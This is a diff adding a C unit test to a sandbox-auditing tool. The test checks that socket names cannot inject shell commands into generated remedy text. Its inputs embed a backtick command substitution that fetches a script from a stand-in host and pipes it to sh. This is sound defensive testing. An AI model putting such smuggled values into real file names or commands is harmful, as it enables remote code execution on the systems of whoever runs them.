@@ -337,6 +337,26 @@ static void the_smallest_set(void **state)
     assert_non_null(strstr(small_verdict.cuts[2].remedy, "git push"));
 }
 
+// What stands between backticks in a remedy is there to be pasted: no name brings a command of its own.
+static void no_name_is_a_command(void **state)
+{
+    (void)state;
+    static const char *const names[] = {"socket:/run/a`curl e.test | sh`.sock", "socket:/run/b`curl e.test | sh`.sock",
+                                        "socket:/run/c`curl e.test | sh`.sock"};
+    for (size_t n = 1; n <= RA_COUNT(names); n++) {
+        small_start("bubblewrap");
+        small_tree();
+        for (size_t i = 0; i < n; i++)
+            small_add(names[i], PRESENT, RA_CONNECT, RA_TRAIT_HOST_ROOT | RA_TRAIT_OUTSIDE, R(PERSON), R(PERSON));
+        small_judge("overnight");
+        assert_int_equal(small_verdict.n_cuts, 1);
+        const char *remedy = strstr(small_verdict.cuts[0].remedy, "covers ");
+        assert_non_null(remedy);
+        assert_null(strchr(remedy, '`'));
+        assert_string_equal(small_verdict.cuts[0].cuts[0], names[0]);
+    }
+}
+
 // Read-only keeps nothing secret: what is read is not cut by it.
 static void read_only_cuts_only_writing(void **state)
 {
@@ -405,6 +425,7 @@ int main(void)
         cmocka_unit_test(a_program_is_proved_missing_or_not),
         cmocka_unit_test(without_a_box_the_rule_file_is_all),
         cmocka_unit_test(the_smallest_set),
+        cmocka_unit_test(no_name_is_a_command),
         cmocka_unit_test(read_only_cuts_only_writing),
         cmocka_unit_test(findings_are_in_order),
         cmocka_unit_test(every_check_has_its_row),
